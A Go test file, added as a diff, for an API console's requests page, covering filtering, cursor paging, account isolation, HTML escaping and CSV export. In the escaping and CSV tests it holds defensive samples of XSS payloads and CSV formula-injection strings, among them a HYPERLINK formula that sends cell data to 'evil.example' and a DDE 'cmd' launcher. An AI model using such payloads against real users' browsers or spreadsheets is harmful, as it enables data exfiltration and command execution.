@@ -1,0 +1,414 @@
+package handlers_test
+
+import (
+	"context"
+	"encoding/csv"
+	"math/rand/v2"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/PuerkitoBio/goquery"
+	"github.com/oklog/ulid/v2"
+
+	"ttconsole/internal/testenv"
+	"ttconsole/models"
+)
+
+const rqPassword = "long enough password"
+
+// rqAccount is a signed-in console user with an account and a key.
+type rqAccount struct {
+	id    string
+	email string
+	key   *models.APIKey
+	b     *browser
+}
+
+func rqNewAccount(t *testing.T, srv *testenv.Server, email string) *rqAccount {
+	t.Helper()
+	ctx := context.Background()
+	u, err := srv.Store.CreateAccount(ctx, email, rqPassword)
+	if err != nil {
+		t.Fatal(err)
+	}
+	k, _, err := srv.Store.CreateAPIKey(ctx, u.AccountID, models.AdminCLI, models.KeyInput{Name: "main"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := newBrowser(t, srv)
+	if res, _ := b.login(email, rqPassword); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("login: %d", res.StatusCode)
+	}
+	return &rqAccount{id: u.AccountID, email: email, key: k, b: b}
+}
+
+// rqLog stores a request row at time at, the way the gateway would.
+func rqLog(t *testing.T, srv *testenv.Server, r models.Request, at time.Time) *models.Request {
+	t.Helper()
+	if r.ID == "" {
+		r.ID = "req_" + ulid.MustNew(ulid.Timestamp(at), ulid.DefaultEntropy()).String()
+	}
+	if r.Method == "" {
+		r.Method, r.Path = "POST", "/v1/chat/completions"
+	}
+	r.CreatedAt = at.UTC()
+	if err := srv.Store.LogRequest(context.Background(), &r); err != nil {
+		t.Fatal(err)
+	}
+	return &r
+}
+
+func ptr[T any](v T) *T { return &v }
+
+// rqPageIDs follows the list's "Older" links from path and returns every
+// request id shown, in order, and how many pages it took; between pages
+// it runs between(page number).
+func rqPageIDs(t *testing.T, b *browser, path string, between func(int)) ([]string, int) {
+	t.Helper()
+	var ids []string
+	pages := 0
+	for path != "" {
+		res, page := b.get(path)
+		if res.StatusCode != http.StatusOK {
+			t.Fatalf("GET %s: %d", path, res.StatusCode)
+		}
+		pages++
+		doc := testenv.Doc(t, page)
+		doc.Find("tr[data-request-id]").Each(func(_ int, s *goquery.Selection) {
+			id, _ := s.Attr("data-request-id")
+			ids = append(ids, id)
+		})
+		next, ok := doc.Find(`a[rel=next]`).Attr("href")
+		if !ok {
+			break
+		}
+		if strings.Contains(next, "offset") {
+			t.Fatalf("next page link %q uses an offset", next)
+		}
+		path = next
+		if between != nil {
+			between(pages)
+		}
+		if pages > 100 {
+			t.Fatal("paging does not end")
+		}
+	}
+	return ids, pages
+}
+
+func TestRequestsFiltersAndCursor(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	other, _, err := srv.Store.CreateAPIKey(context.Background(), a.id, models.AdminCLI, models.KeyInput{Name: "batch"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type spec struct {
+		status          int
+		typ, outcome    string
+		model           string
+		key             string
+		charged, holdMu int64
+	}
+	kinds := []spec{
+		{200, "", models.OutcomeCharged, "tt-chat-small", a.key.ID, 1200, 5000},
+		{200, "", models.OutcomeChargedPartial, "tt-chat-large", other.ID, 300, 9000},
+		{429, "rate_limited", models.OutcomeNotChargedRejected, "tt-chat-small", a.key.ID, 0, 0},
+		{403, "ip_not_allowed", models.OutcomeNotChargedRejected, "tt-chat-large", other.ID, 0, 0},
+		{402, "billing_shortfall", models.OutcomeNotChargedRejected, "tt-chat-small", a.key.ID, 0, 4000},
+		{502, "upstream_error", models.OutcomeNotChargedFailed, "tt-embed-1", other.ID, 0, 100},
+	}
+	now := time.Now().UTC()
+	rng := rand.New(rand.NewPCG(1, 2))
+	var all []*models.Request
+	for i := range 173 {
+		k := kinds[rng.IntN(len(kinds))]
+		at := now.Add(-time.Duration(173-i) * time.Hour) // one an hour, a week back
+		all = append(all, rqLog(t, srv, models.Request{
+			AccountID: &a.id, KeyID: &k.key, Model: k.model, Status: k.status, ErrorType: k.typ,
+			BillingOutcome: k.outcome, ChargedMicros: k.charged, HoldMicros: k.holdMu, ClientIP: "203.0.113.7",
+		}, at))
+	}
+	// Another account's rows never show.
+	b := rqNewAccount(t, srv, "bob@example.com")
+	for i := range 7 {
+		rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 429, ErrorType: "rate_limited",
+			Model: "tt-chat-small"}, now.Add(-time.Duration(i)*time.Hour))
+	}
+
+	from, to := now.Add(-100*time.Hour), now.Add(-20*time.Hour)
+	cases := []struct {
+		name  string
+		query url.Values
+		match func(*models.Request) bool
+	}{
+		{"unfiltered", url.Values{}, func(*models.Request) bool { return true }},
+		{"status class", url.Values{"status": {"4xx"}}, func(r *models.Request) bool { return r.Status/100 == 4 }},
+		{"status code", url.Values{"status": {"429"}}, func(r *models.Request) bool { return r.Status == 429 }},
+		{"error type", url.Values{"type": {"ip_not_allowed"}}, func(r *models.Request) bool { return r.ErrorType == "ip_not_allowed" }},
+		{"key", url.Values{"key": {other.ID}}, func(r *models.Request) bool { return *r.KeyID == other.ID }},
+		{"model", url.Values{"model": {"tt-chat-large"}}, func(r *models.Request) bool { return r.Model == "tt-chat-large" }},
+		{"outcome", url.Values{"outcome": {models.OutcomeNotChargedRejected}}, func(r *models.Request) bool {
+			return r.BillingOutcome == models.OutcomeNotChargedRejected
+		}},
+		{"time range", url.Values{"from": {from.Format(time.RFC3339)}, "to": {to.Format(time.RFC3339)}}, func(r *models.Request) bool {
+			return !r.CreatedAt.Before(from.Truncate(time.Second)) && r.CreatedAt.Before(to.Truncate(time.Second))
+		}},
+		{"combined", url.Values{"status": {"2xx"}, "model": {"tt-chat-small"}}, func(r *models.Request) bool {
+			return r.Status/100 == 2 && r.Model == "tt-chat-small"
+		}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			var want []string
+			for i := len(all) - 1; i >= 0; i-- {
+				if tc.match(all[i]) {
+					want = append(want, all[i].ID)
+				}
+			}
+			path := "/requests"
+			if len(tc.query) > 0 {
+				path += "?" + tc.query.Encode()
+			}
+			got, pages := rqPageIDs(t, a.b, path, nil)
+			if !slices.Equal(got, want) {
+				t.Fatalf("got %d ids over %d pages, want %d newest first, without duplicates or gaps", len(got), pages, len(want))
+			}
+			if wantPages := max(1, (len(want)+49)/50); pages != wantPages {
+				t.Errorf("%d pages for %d rows, want %d", pages, len(want), wantPages)
+			}
+		})
+	}
+
+	t.Run("rows arriving between pages", func(t *testing.T) {
+		var want []string
+		for i := len(all) - 1; i >= 0; i-- {
+			want = append(want, all[i].ID)
+		}
+		got, _ := rqPageIDs(t, a.b, "/requests", func(int) {
+			for range 20 { // a burst of new calls while the customer reads
+				rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 200, Model: "tt-chat-small",
+					BillingOutcome: models.OutcomeCharged}, time.Now())
+			}
+		})
+		if !slices.Equal(got, want) {
+			t.Fatalf("paging while rows arrive: got %d ids, want the %d that existed at the first page, in order", len(got), len(want))
+		}
+	})
+
+	t.Run("bad filters say so", func(t *testing.T) {
+		for q, field := range map[string]string{"status=7xx": "status", "from=yesterday": "from", "outcome=free": "outcome"} {
+			res, page := a.b.get("/requests?" + q)
+			if res.StatusCode != http.StatusBadRequest {
+				t.Errorf("%s: status %d, want 400", q, res.StatusCode)
+			}
+			if testenv.Doc(t, page).Find(`.field-error[data-field="`+field+`"]`).Length() != 1 {
+				t.Errorf("%s: no message beside %s", q, field)
+			}
+		}
+		res, _ := a.b.get("/requests?cursor=not-an-id")
+		if res.StatusCode != http.StatusBadRequest {
+			t.Errorf("bad cursor: %d", res.StatusCode)
+		}
+	})
+
+	t.Run("chart", func(t *testing.T) {
+		_, page := a.b.get("/requests?status=5xx")
+		doc := testenv.Doc(t, page)
+		if doc.Find(`[data-testid=status-chart] svg rect.s5xx`).Length() == 0 {
+			t.Fatal("no 5xx bars in the chart")
+		}
+		if doc.Find(`[data-testid=status-chart] svg rect.s2xx`).Length() != 0 {
+			t.Fatal("2xx bars in a chart filtered to 5xx")
+		}
+		if strings.Contains(page, "style=") {
+			t.Fatal("inline style on the page: the CSP forbids it")
+		}
+	})
+}
+
+func TestRequestsEmptyStates(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "new@example.com")
+	_, page := a.b.get("/requests")
+	if !strings.Contains(page, "No requests yet") || !strings.Contains(page, "curl "+srv.URL+"/v1/chat/completions") {
+		t.Fatal("a new account's Requests page lacks its empty state with a curl")
+	}
+	rqLog(t, srv, models.Request{AccountID: &a.id, Status: 200, Model: "tt-chat-small"}, time.Now())
+	_, page = a.b.get("/requests?status=5xx")
+	if !strings.Contains(page, "No requests match these filters") || !strings.Contains(page, "clear the filters") {
+		t.Fatal("a filter matching nothing does not say so")
+	}
+	_, page = a.b.get("/")
+	if !strings.Contains(page, "No failed requests") {
+		t.Fatal("overview lacks the empty state of failed requests")
+	}
+}
+
+func TestRequestLookup(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	b := rqNewAccount(t, srv, "bob@example.com")
+	mine := rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 403, ErrorType: "ip_not_allowed"}, time.Now())
+	theirs := rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 200}, time.Now())
+	anon := rqLog(t, srv, models.Request{Status: 401, ErrorType: "unauthorized"}, time.Now())
+
+	for _, q := range []string{mine.ID, "  " + mine.ID + " ", "X-TT-Request-ID: " + mine.ID} {
+		res, _ := a.b.get("/requests?q=" + url.QueryEscape(q))
+		if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/requests/"+mine.ID {
+			t.Fatalf("lookup %q: %d to %q, want 303 to the request", q, res.StatusCode, res.Header.Get("Location"))
+		}
+	}
+	unknown := "req_" + ulid.Make().String()
+	var answers []string
+	for _, q := range []string{unknown, theirs.ID, anon.ID, "hello"} {
+		res, page := a.b.get("/requests?q=" + url.QueryEscape(q))
+		if res.StatusCode != http.StatusNotFound {
+			t.Fatalf("lookup %q: %d, want 404", q, res.StatusCode)
+		}
+		msg := strings.TrimSpace(testenv.Doc(t, page).Find(`.field-error[data-field=q]`).Text())
+		answers = append(answers, msg)
+	}
+	for _, msg := range answers {
+		if msg != "No request with this id in your account." {
+			t.Fatalf("lookup answers %q: every unknown or foreign id must get the same words", answers)
+		}
+	}
+}
+
+func TestRequestsIsolation(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	b := rqNewAccount(t, srv, "bob@example.com")
+	theirs := rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 403, ErrorType: "ip_not_allowed",
+		ClientIP: "198.51.100.9", Model: "tt-chat-small", ErrorMessage: "bob's secret message"}, time.Now())
+	anon := rqLog(t, srv, models.Request{Status: 401, ErrorType: "unauthorized", ErrorMessage: "anonymous"}, time.Now())
+	rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 200}, time.Now())
+
+	for _, id := range []string{theirs.ID, anon.ID} {
+		res, page := a.b.get("/requests/" + id)
+		if res.StatusCode != http.StatusNotFound || !strings.Contains(page, "No request with this id in your account.") {
+			t.Fatalf("another account's request page: %d", res.StatusCode)
+		}
+		if strings.Contains(page, "secret message") || strings.Contains(page, "anonymous") {
+			t.Fatal("the 404 leaks the request")
+		}
+	}
+	_, list := a.b.get("/requests")
+	_, csvBody := a.b.get("/requests.csv")
+	_, keyFiltered := a.b.get("/requests.csv?key=" + b.key.ID)
+	for name, body := range map[string]string{"list": list, "csv": csvBody, "csv filtered by their key": keyFiltered} {
+		if strings.Contains(body, theirs.ID) || strings.Contains(body, anon.ID) {
+			t.Errorf("%s shows a request of another account or of no account", name)
+		}
+	}
+	if n := len(strings.Split(strings.TrimSpace(keyFiltered), "\r\n")); n != 1 {
+		t.Errorf("CSV filtered by another account's key has %d lines, want the header only", n)
+	}
+	// A fix on another account's request changes nothing.
+	res, _ := a.b.post("/requests", "/requests/"+theirs.ID+"/fix/allow-ip", nil)
+	if res.StatusCode != http.StatusNotFound {
+		t.Fatalf("fix on another account's request: %d, want 404", res.StatusCode)
+	}
+	k, err := srv.Store.APIKeyOf(context.Background(), b.id, b.key.ID)
+	if err != nil || k.AllowedIPs != "" {
+		t.Fatalf("their key changed: %q %v", k.AllowedIPs, err)
+	}
+}
+
+func TestRequestsEscapeWhatCallersSent(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	model := `<script>alert("model")</script>`
+	msg := `Unknown model "<script>alert(1)</script>" <img src=x onerror=alert(2)>`
+	r := rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 400, ErrorType: "invalid_request",
+		Model: model, ErrorMessage: msg, ErrorBody: `{"error":{"type":"invalid_request","message":"` + msg + `"}}`,
+		Path: "/v1/chat/completions?<b>x</b>", Method: "POST"}, time.Now())
+	for _, path := range []string{"/requests", "/requests/" + r.ID, "/"} {
+		_, page := a.b.get(path)
+		if strings.Contains(page, "<script>alert") || strings.Contains(page, "<img src=x") || strings.Contains(page, "<b>x</b>") {
+			t.Fatalf("%s renders caller-sent HTML as markup", path)
+		}
+		if !strings.Contains(testenv.Doc(t, page).Text(), `<script>alert(1)</script>`) {
+			t.Fatalf("%s does not show the message as text", path)
+		}
+	}
+}
+
+func TestRequestsCSVQuotingAndFormulas(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	msgs := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		"+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "plain, with comma", `she said "hi"`, "two\nlines", "",
+	}
+	base := time.Now().Add(-time.Hour)
+	for i, m := range msgs {
+		rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 400, ErrorType: "invalid_request",
+			ErrorMessage: m, Model: "=cmd|' /C calc'!A0", ChargedMicros: 1536, HoldMicros: 9000}, base.Add(time.Duration(i)*time.Minute))
+	}
+	res, body := a.b.get("/requests.csv?status=400")
+	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
+		t.Fatalf("content type %q", ct)
+	}
+	if !strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
+		t.Fatal("CSV is not an attachment")
+	}
+	if !strings.HasPrefix(body, "request_id,created_at_utc,") || !strings.Contains(body, "\r\n") {
+		t.Fatalf("CSV lacks the header row or CRLF line ends: %q", body[:min(80, len(body))])
+	}
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatalf("not valid RFC 4180: %v", err)
+	}
+	if len(recs) != len(msgs)+1 {
+		t.Fatalf("%d records, want header + %d", len(recs), len(msgs))
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	for i, m := range msgs {
+		rec := recs[len(msgs)-i] // newest first
+		got := rec[col["error_message"]]
+		want := m
+		if m != "" && strings.ContainsRune("=+-@\t", rune(m[0])) {
+			want = "'" + m
+		}
+		if got != want {
+			t.Errorf("error_message %q, want %q", got, want)
+		}
+		if rec[col["model"]] != "'=cmd|' /C calc'!A0" {
+			t.Errorf("model cell %q not neutralised", rec[col["model"]])
+		}
+		if rec[col["charged_micros"]] != "1536" || rec[col["key_name"]] != "main" {
+			t.Errorf("charged %q key %q", rec[col["charged_micros"]], rec[col["key_name"]])
+		}
+	}
+}
+
+func TestRequestsCSVFollowsTheFilters(t *testing.T) {
+	srv := testenv.NewServer(t)
+	a := rqNewAccount(t, srv, "ada@example.com")
+	for i := range 120 {
+		st := 200
+		if i%3 == 0 {
+			st = 503
+		}
+		rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: st}, time.Now().Add(-time.Duration(i)*time.Minute))
+	}
+	_, page := a.b.get("/requests?status=5xx")
+	href, _ := testenv.Doc(t, page).Find(`[data-testid=csv-export]`).Attr("href")
+	if href != "/requests.csv?status=5xx" {
+		t.Fatalf("export link %q does not keep the filter", href)
+	}
+	_, body := a.b.get(href)
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(recs) != 41 {
+		t.Fatalf("%d records (%v), want header + 40", len(recs), err)
+	}
+}
